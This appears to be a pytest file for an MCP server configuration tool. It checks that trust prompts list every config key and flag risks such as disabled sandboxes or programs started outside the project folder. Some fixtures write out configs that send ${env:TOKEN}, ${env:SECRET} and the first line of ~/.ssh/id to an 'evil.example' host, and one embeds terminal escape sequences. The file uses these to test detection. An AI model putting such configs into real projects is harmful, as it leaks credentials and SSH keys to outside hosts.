"""All that a file makes happen is in the question whether to trust it: no key is left out."""

from pathlib import Path
from typing import Any

import msgspec
import pytest

from colonnade.host.config.actions import RequestedAction
from colonnade.host.config.files import _PINS, OWN_TABLES  # pyright: ignore[reportPrivateUsage]
from colonnade.host.config.formats import CHOICES, KEYS, LOGIN, OWN, SETTINGS, ValueKind
from colonnade.host.config.gateway_table import KEYS as GATEWAY_KEYS
from colonnade.host.config.lookups import Input
from colonnade.host.config.trust import TrustRequest
from colonnade.host.policy.approvals.config import ApprovalSettings
from colonnade.host.policy.audit.config import KEYS as AUDIT_KEYS
from colonnade.host.policy.rules.config import RULE_KEYS
from host.configured import Place

FILES = {
    "claude-code": (".mcp.json", "mcpServers"),
    "vscode": (".vscode/mcp.json", "servers"),
    "cursor": (".cursor/mcp.json", "mcpServers"),
    "claude-desktop": ("claude_desktop_config.json", "mcpServers"),
    "codex": (".codex/config.toml", "mcp_servers"),
    "colonnade": ("colonnade.toml", "servers"),
}
# A value of each kind that no setting has by default.
VALUES: dict[ValueKind, Any] = {
    ValueKind.STRING: "odd",
    ValueKind.STRINGS: ["odd"],
    ValueKind.NAMES: ["odd"],
    ValueKind.ROOTS: ["odd"],
    ValueKind.TABLE: {"odd": "odd"},
    ValueKind.LOOSE_TABLE: {"odd": "odd"},
    ValueKind.VALUE_TABLE: {"odd": "odd"},
    ValueKind.BOOLEAN: True,
    ValueKind.SECONDS: 77,
    ValueKind.MILLISECONDS: 77000,
    ValueKind.SECONDS_OR_NEVER: 77,
    ValueKind.COUNT: 77,
    ValueKind.SANDBOX: "strict",
    **{kind: values[-1] for kind, values in CHOICES.items()},
}
# Values that a key needs, with other keys that it needs.
SPECIAL: dict[str, Any] = {
    "type": {"type": "sse", "url": "https://example.com"},
    "url": {"url": "https://odd.example"},
    "headers": {"url": "https://example.com", "headers": {"odd": "odd"}},
    "http_headers": {"url": "https://example.com", "http_headers": {"odd": "odd"}},
    "env_http_headers": {"url": "https://example.com", "env_http_headers": {"odd": "odd"}},
    "bearer_token_env_var": {"url": "https://example.com", "bearer_token_env_var": "odd"},
    "headersHelper": {"url": "https://example.com", "headersHelper": "odd"},
    "sandboxEnabled": {"command": "run", "sandboxEnabled": True},
    "revision": {"command": "run", "revision": "2025-06-18"},
}


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Place:
    monkeypatch.setenv("COLONNADE_HOME", str(tmp_path / "kept"))
    return Place(tmp_path)


def asked(place: Place, name: str, content: Any) -> list[RequestedAction]:
    """What the question about a file says; nothing if there is no question."""
    questions: list[TrustRequest] = []

    def answer(question: TrustRequest) -> bool:
        questions.append(question)
        return False

    place.write(name, content)
    place.read(name, trust=answer, strict=True)
    return list(questions[0].actions) if questions else []


def toml(value: Any) -> str:
    if isinstance(value, dict):
        return "{ " + ", ".join(f"{key} = {toml(one)}" for key, one in value.items()) + " }"
    return msgspec.json.encode(value).decode()


def of_server(place: Place, file_format: str, entry: dict[str, Any]) -> list[RequestedAction]:
    name, servers = FILES[file_format]
    if name.endswith(".toml"):
        lines = [f"{key} = {toml(value)}\n" for key, value in entry.items()]
        return asked(place, name, f"[{servers}.a]\n{''.join(lines)}")
    return asked(place, name, {servers: {"a": entry}})


USED = [
    (file_format, key)
    for file_format, rows in KEYS.items()
    for key, row in rows.items()
    if row.field and row.field != "login"  # a key without a field makes nothing happen
]


@pytest.mark.parametrize(("file_format", "key"), USED)
def test_every_key_of_a_server_changes_the_question(
    place: Place, file_format: str, key: str
) -> None:
    kind = KEYS[file_format][key].kind
    value = {"filesystem": {"allowWrite": ["odd"]}} if kind is ValueKind.OBJECT else None
    value = VALUES[kind] if value is None else value
    entry: dict[str, Any] = SPECIAL.get(key, {"command": "run", key: value})
    if key == "sandbox" and file_format == "vscode":
        entry["sandboxEnabled"] = True
    without = {name: one for name, one in entry.items() if name != key}
    before, after = of_server(place, file_format, without), of_server(place, file_format, entry)
    assert before != after
    if "odd" in toml(entry):
        assert any("odd" in one.text for one in after)


@pytest.mark.parametrize("file_format", [one for one in LOGIN if one != "claude-desktop"])
def test_every_key_of_a_login_is_in_the_question(place: Place, file_format: str) -> None:
    values = {"client_id": "odd1", "scopes": "odd2", "port": 7777}
    table = {key: values[field] for key, field in LOGIN[file_format].items()}
    name = next(key for key, row in KEYS[file_format].items() if row.field == "login")
    found = of_server(place, file_format, {"url": "https://example.com", name: table})
    text = "\n".join(one.text for one in found)
    for value in table.values():
        assert str(value) in text


TABLES: dict[str, dict[str, str]] = {
    "gateway": {
        "name": '"odd"',
        "url": '"https://odd.example"',
        "name_limit": "77",
        "page_size": "77",
        "wait_s": "77",
        "instructions": '"odd"',
        "store": '"sqlite:odd.db"',
        "keys": '["${env:ODD}"]',
        "sandbox": '"workspace"',
        "auth": '{ issuer = "https://odd.example", scopes = ["odd"] }',
        "views": '{ odd = { servers = ["a"] } }',
    },
    "audit": {
        "path": '"odd"',
        "required": "true",
        "contents": '"all"',
        "redact": '["odd"]',
        "heads": '"odd.db"',
    },
    "approvals": {
        "socket": "false",
        "store": '"odd.db"',
        "wait_s": "77",
        "usable_s": "77",
        "deadline_s": "77",
    },
    "pins": {"mode": '"off"', "first": '"review"'},
}


def test_the_tables_here_are_those_of_the_schema() -> None:
    assert set(TABLES["gateway"]) == set(GATEWAY_KEYS)
    assert set(TABLES["audit"]) == set(AUDIT_KEYS)
    assert set(TABLES["approvals"]) == set(ApprovalSettings.__struct_fields__)
    assert set(TABLES["pins"]) == set(_PINS)
    assert set(OWN_TABLES) == {*TABLES, "policy", "include", "servers", "defaults"}


@pytest.mark.parametrize(("table", "key"), [(t, key) for t in TABLES for key in TABLES[t]])
def test_every_key_of_a_table_is_in_the_question(place: Place, table: str, key: str) -> None:
    found = asked(place, "colonnade.toml", f"[{table}]\n{key} = {TABLES[table][key]}\n")
    assert {one.table for one in found} == {f"[{table}]"}
    value = TABLES[table][key]
    text = "\n".join(one.text for one in found)
    assert ("odd" if "odd" in value else value).lower() in text.lower()
    assert key in text


@pytest.mark.parametrize("key", [one for one in RULE_KEYS if one != "test"])
def test_every_key_of_a_rule_is_in_the_question(place: Place, key: str) -> None:
    rule = {"action": '"deny"', key: '"odd"' if key not in ("action",) else '"allow"'}
    lines = "".join(f"{name} = {value}\n" for name, value in rule.items())
    (found,) = asked(place, "colonnade.toml", f"[[policy]]\n{lines}")
    assert (found.table, f"{key} = {rule[key]}" in found.text) == ("[[policy]]", True)


@pytest.mark.parametrize("key", [one for one in SETTINGS if one not in OWN])
def test_every_default_is_in_the_question(place: Place, key: str) -> None:
    value = SPECIAL["revision"]["revision"] if key == "revision" else VALUES[SETTINGS[key].kind]
    found = asked(place, "colonnade.toml", f"[defaults]\n{key} = {toml(value)}\n")
    assert [one.text.partition(" = ")[0] for one in found if one.table == "[defaults]"] == [key]


def test_every_field_of_an_input_is_in_the_question(place: Place) -> None:
    given = {"id": "odd1", "description": "odd2", "default": "odd3", "options": ["odd4"]}
    one = given | {"type": "pickString", "password": True}
    found = asked(place, ".vscode/mcp.json", {"inputs": [one], "servers": {}})
    (text,) = [action.text for action in found if action.table == "inputs"]
    for name in set(Input.__struct_fields__) - {"id", "file"}:
        assert f'"{name}":' in text
    for value in ("odd1", "odd2", "odd3", "odd4"):
        assert value in text


def test_an_included_file_is_in_the_question(place: Place) -> None:
    (found,) = asked(place, "colonnade.toml", 'include = ["odd.json"]\n')
    assert (found.table, found.text) == ("include", "odd.json")


# ---------------------------------------------------------------- what it says


def test_a_reference_is_shown_with_where_it_is_sent(place: Place) -> None:
    text = (
        '[servers.a]\nurl = "https://evil.example"\n'
        'headers = { X = "${env:TOKEN}", Y = "${file:~/.ssh/id}" }\n'
        '[gateway]\nstore = "redis://evil.example/${env:SECRET}"\nkeys = ["${file:~/.ssh/id}"]\n'
    )
    found = {one.text: one.dangers for one in asked(place, "colonnade.toml", text)}
    assert found["environment variable TOKEN, sent to https://evil.example"] == ()
    assert found["first line of file ~/.ssh/id, sent to https://evil.example"] == ("uses SSH keys",)
    store = "redis://evil.example/${env:SECRET}"
    assert found[f'store = "{store}"'] == (
        "keeps its state on another machine",
        "is not encrypted",
    )
    assert found[f"environment variable SECRET, sent to {store}"] == ("is sent to another machine",)
    assert found["first line of file ~/.ssh/id, to encrypt with"] == ("uses SSH keys",)


@pytest.mark.parametrize(
    ("text", "danger"),
    [
        ("[pins]\nmode = 'off'\n", "changed definitions are used without a question"),
        ("[[policy]]\naction = 'allow'\n", "allows calls without asking"),
        (
            "[defaults]\ntrusted = true\n",
            "policy rules rely on its tool annotations",
        ),
        ("[defaults]\nsandbox = false\n", "switches the sandbox off"),
        ("[gateway.auth]\nissuer = 'https://x'\n", "decides who may use the gateway"),
        ("[audit]\ncontents = 'all'\n", "records arguments and results"),
        ("[audit]\npath = '/srv/log'\n", "uses a path outside of FOLDER"),
        ("[approvals]\nsocket = false\n", "`colonnade inbox` cannot answer"),
        ("[gateway]\nstore = 'sqlite:../x.db'\n", "uses a path outside of FOLDER"),
        ("[servers.a]\nurl = 'https://x'\nsampling = true\n", "may use your model"),
        ("[servers.a]\nargs = ['../x']\n", "uses a path outside of FOLDER"),
        ("[servers.a]\ncommand = '/srv/run'\n", "starts a program outside of FOLDER"),
        ("[servers.a]\ncommand = './x/../../run'\n", "starts a program outside of FOLDER"),
        ("[servers.a]\ncommand = '${env:RUN}'\n", "runs a program that a variable names"),
        ("[servers.a]\ncommand = 'run'\ncwd = '/srv'\n", "uses a path outside of FOLDER"),
    ],
)
def test_what_a_table_or_a_setting_switches_off_is_pointed_at(
    place: Place, text: str, danger: str
) -> None:
    found = asked(place, "colonnade.toml", text)
    folder = str(place.folder)
    assert danger.replace("FOLDER", folder) in [one for action in found for one in action.dangers]


@pytest.mark.parametrize("command", ["run", "./run", "bin/run", "${workspaceFolder}/run"])
def test_a_program_of_the_folder_is_not_pointed_at(place: Place, command: str) -> None:
    (found,) = asked(place, ".vscode/mcp.json", {"servers": {"a": {"command": command}}})
    assert not [one for one in found.dangers if "outside" in one or "variable" in one]


def test_a_program_outside_of_the_folder_is_pointed_at_through_a_reference(place: Place) -> None:
    for command in ("${workspaceFolder}/../run", "${cwd}/x/../../run"):
        (found,) = asked(place, ".vscode/mcp.json", {"servers": {"a": {"command": command}}})
        assert f"starts a program outside of {place.folder}" in found.dangers


def test_a_file_with_tables_alone_has_no_influence_before_it_is_trusted(place: Place) -> None:
    text = (
        "[[policy]]\naction = 'allow'\n[pins]\nmode = 'off'\n[gateway]\nname = 'x'\n"
        "[audit]\npath = 'log'\n[approvals]\nsocket = false\n"
    )
    file = place.write("colonnade.toml", text)
    config = place.read("colonnade.toml", strict=True)
    parts = (config.policy, config.pins, config.gateway, config.audit, config.approvals)
    assert parts == (None, None, None, None, None)
    (problem,) = config.problems
    assert problem.untrusted
    assert f"{file} is not trusted, so it is not used" in problem.message
    config = place.read("colonnade.toml", strict=True, trust=lambda _: True)
    parts = (config.policy, config.pins, config.gateway, config.audit, config.approvals)
    assert None not in parts
    assert place.read("colonnade.toml", strict=True).gateway is not None
    file.write_text(text.replace("'x'", "'y'"))
    assert place.read("colonnade.toml", strict=True).gateway is None


def test_tables_of_an_included_file_are_not_used_and_not_asked_about(place: Place) -> None:
    place.write("part.toml", "[gateway]\nname = 'odd'\n[servers.a]\ncommand = 'run'\n")
    found = asked(place, "colonnade.toml", 'include = ["part.toml"]\n')
    assert [one.text for one in found] == ["run", "part.toml"]


def test_what_is_asked_about_cannot_control_a_terminal(place: Place) -> None:
    text = '[gateway]\nname = "\\u001b[2J\\u202e"\n[[policy]]\naction = "deny"\nname = "\\u001b"\n'
    for one in asked(place, "colonnade.toml", text):
        assert one.text.isprintable()
